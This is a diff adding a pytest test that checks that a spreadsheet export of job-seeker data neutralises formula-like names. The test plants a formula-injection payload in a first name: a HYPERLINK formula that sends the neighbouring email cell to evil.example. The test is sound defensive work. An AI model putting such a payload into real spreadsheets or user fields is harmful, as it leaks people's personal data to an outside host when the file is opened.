@@ -275,6 +275,19 @@ def test_export_of_everyone_never_includes_people_who_did_not_consent(client, wo
     ]
 
 
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "＝"])
+def test_export_writes_formula_like_names_as_inert_text(client, world, prefix):
+    payload = f'{prefix}HYPERLINK("https://evil.example/?"&B2,"Voir")'
+    world.alice.job_seeker.first_name = payload
+    world.alice.job_seeker.save(update_fields=["first_name"])
+    client.force_login(world.adviser)
+    response = client.get(reverse("programs:adviser_export", args=[world.session.slug]), {"q": "martin"})
+    sheet = _sheet(response)
+    cell = sheet["A2"]
+    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", f"{payload} Martin", True)
+    assert sheet["B2"].value == "alice@example.org"
+
+
 def test_export_with_a_tampered_filter_is_refused(client, world):
     client.force_login(world.adviser)
     response = client.get(
